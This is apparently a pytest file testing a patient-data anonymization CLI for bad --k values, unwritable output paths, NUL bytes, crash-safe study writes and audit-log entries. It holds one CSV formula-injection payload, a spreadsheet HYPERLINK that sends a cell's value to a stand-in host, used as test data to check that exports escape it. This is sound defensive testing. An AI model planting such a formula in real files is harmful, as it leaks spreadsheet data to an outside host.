"""Issue 40's low findings on the command line, each reproduced first: a huge --k, an output folder that
cannot be written, and identifying ids written raw into CSV outputs a spreadsheet would evaluate."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from engine.commands.cli import main

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


def _cohort(tmp_path: Path) -> tuple[Path, Path]:
    """A small population whose first patient's id is a spreadsheet formula; every patient unique."""
    rows = [(FORMULA, "401.9", 1), (FORMULA, "250.00", 1)]
    rows += [(f"P{i}", f"{300 + i}.0", 1) for i in range(6)]
    events = tmp_path / "events.csv"
    pd.DataFrame(rows, columns=["patient_id", "code", "visit"]).to_csv(events, index=False)
    cohort = tmp_path / "cohort.csv"
    pd.DataFrame({"patient_id": [FORMULA, "P0", "P1"]}).to_csv(cohort, index=False)
    return events, cohort


def _ids(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [row["patient_id"] for row in csv.DictReader(f)]


@pytest.mark.parametrize("command", ["risk", "anonymize gccens", "anonymize generalize", "study new"])
def test_a_huge_k_is_refused_by_name(tmp_path: Path, command: str, capsys) -> None:
    events, cohort = _cohort(tmp_path)
    argv = [*command.split(), "--events", str(events), "--cohort", str(cohort)]
    if command == "study new":
        argv = ["study", "new", str(tmp_path / "s.json"), *argv[2:], "--scope", "cohort"]
        argv += ["--knowledge", "single_visit"]
    elif command == "risk":
        argv += ["--scope", "cohort", "--knowledge", "single_visit", "--out", str(tmp_path / "r.csv")]
    else:
        argv += ["--out", str(tmp_path / "r.csv")]
    with pytest.raises(SystemExit) as exit_:
        main([*argv, "--k", "99999999999999999999"])
    assert exit_.value.code == 2
    assert "k must be a whole number from 1 to 1,000,000" in capsys.readouterr().err


def test_an_output_folder_that_cannot_be_written_is_named(tmp_path: Path, capsys) -> None:
    events, cohort = _cohort(tmp_path)
    # /proc takes no new file, even for root (a chmod 555 folder would not stop root)
    base = ["risk", "--events", str(events), "--cohort", str(cohort), "--scope", "cohort"]
    base += ["--knowledge", "single_visit", "--k", "2"]
    assert main([*base, "--out", "/proc/cohortshield-risk.csv"]) == 2
    assert "--out /proc/cohortshield-risk.csv: cannot write in the folder '/proc'" in capsys.readouterr().err
    out = tmp_path / "r.csv"
    assert main([*base, "--out", str(out), "--explain", "/proc/x.csv"]) == 2
    assert "--explain /proc/x.csv: cannot write" in capsys.readouterr().err
    assert not out.exists()  # refused before any work


def test_a_nul_byte_in_a_path_is_named(tmp_path: Path, capsys) -> None:
    events, cohort = _cohort(tmp_path)
    argv = ["risk", "--events", str(events), "--cohort", str(cohort), "--scope", "cohort"]
    argv += ["--knowledge", "single_visit", "--k", "2", "--out", str(tmp_path / "r\x00.csv")]
    assert main(argv) == 2
    assert "--out: the path" in capsys.readouterr().err


def test_risk_outputs_are_spreadsheet_safe(tmp_path: Path) -> None:
    events, cohort = _cohort(tmp_path)
    out, explain = tmp_path / "r.csv", tmp_path / "explain.csv"
    argv = ["risk", "--events", str(events), "--cohort", str(cohort), "--scope", "cohort"]
    argv += ["--knowledge", "single_visit", "--k", "2", "--out", str(out), "--explain", str(explain)]
    assert main(argv) == 0
    for path in (out, explain):
        ids = _ids(path)
        assert "'" + FORMULA in ids, path.name
        assert not any(i.startswith("=") for i in ids), path.name


KILL_AT = """
import os, signal, sys
from engine.commands.cli import main
real = os.replace
def replace(a, b):
    if os.path.basename(str(b)) == sys.argv[1]:
        if sys.argv[2] == "after":
            real(a, b)
        os.kill(os.getpid(), signal.SIGKILL)
    return real(a, b)
os.replace = replace
main(sys.argv[3:])
"""


def _killed(at: str, when: str, argv: list[str]) -> None:
    import signal
    import subprocess
    import sys

    child = subprocess.run([sys.executable, "-c", KILL_AT, at, when, *argv], capture_output=True, timeout=600)
    assert child.returncode == -signal.SIGKILL, child.stderr.decode()


def _study(tmp_path: Path) -> tuple[Path, list[str]]:
    rows = [(f"P{i}{t}", "1", c, "40") for i, c in enumerate(["401.1", "250.00", "272.4"]) for t in (1, 2)]
    events, cohort = tmp_path / "events.csv", tmp_path / "cohort.csv"
    pd.DataFrame(rows, columns=["patient_id", "visit", "code", "age"]).to_csv(events, index=False)
    pd.DataFrame({"patient_id": [r[0] for r in rows]}).to_csv(cohort, index=False)
    study = tmp_path / "study.json"
    data = ["--events", str(events), "--cohort", str(cohort)]
    new = ["study", "new", str(study), *data, "--scope", "cohort", "--knowledge", "all_visits", "--k", "2"]
    assert main(new) == 0
    return study, data


def test_a_killed_study_write_leaves_no_key_behind(tmp_path: Path) -> None:
    """A study file's temporary holds the pseudonym key: a killed writer's temporary is removed by the
    next write of the study (it stayed)."""
    study, data = _study(tmp_path)
    add = ["study", "add", str(study), "--name", "G", "gccens", *data, "--scope", "cohort"]
    _killed("study.json", "before", add)
    left = [p for p in tmp_path.iterdir() if p.name.startswith(".study.json.") and p.name.endswith(".tmp")]
    assert left and "pseudonym_key" in left[0].read_text()
    assert main(add) == 0
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_a_killed_report_is_an_incomplete_set_not_a_mixed_one(tmp_path: Path) -> None:
    """`study report` writes its files as one set with a manifest: a kill after the first file leaves
    no manifest (the mixed set of a new report.html beside the old json/pdf/bundle is found), and the
    next report is whole."""
    from engine.commands.study import REPORT_FILES
    from engine.io.export import check_manifest

    study, data = _study(tmp_path)
    assert main(["study", "add", str(study), "--name", "G", "gccens", *data, "--scope", "cohort"]) == 0
    out = tmp_path / "report"
    report = ["study", "report", str(study), "--out", str(out), *data]
    assert main(report) == 0
    paths = {n: out / n for n in REPORT_FILES}
    assert check_manifest(paths) == []
    _killed("report.html", "after", [*report, "--recipient", "another recipient"])
    assert "another recipient" in (out / "report.html").read_text()  # the new one, beside the old others
    problems = check_manifest(paths)
    assert problems and "incomplete" in problems[0]
    assert main(report) == 0
    assert check_manifest(paths) == []
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


def test_the_audit_entry_of_study_add_names_the_study_adversary(tmp_path: Path, monkeypatch) -> None:
    """`study add ... gccens` (whose own default scope is population) under a cohort / all-visits study:
    the entry named the method's default scope, not the study's adversary."""
    import json

    log = tmp_path / "audit.log"
    monkeypatch.setenv("COHORTSHIELD_AUDIT_LOG", str(log))
    study, data = _study(tmp_path)
    assert main(["study", "add", str(study), "--name", "G", "gccens", *data]) == 0
    entries = [json.loads(line) for line in log.read_text().splitlines() if line.strip()]
    added = [e for e in entries if e.get("what", "").startswith("cli study add")]
    assert added, entries
    assert added[-1]["adversary"] == "cohort / all visits"
    assert added[-1]["release"] == "G" and added[-1]["k"] == 2
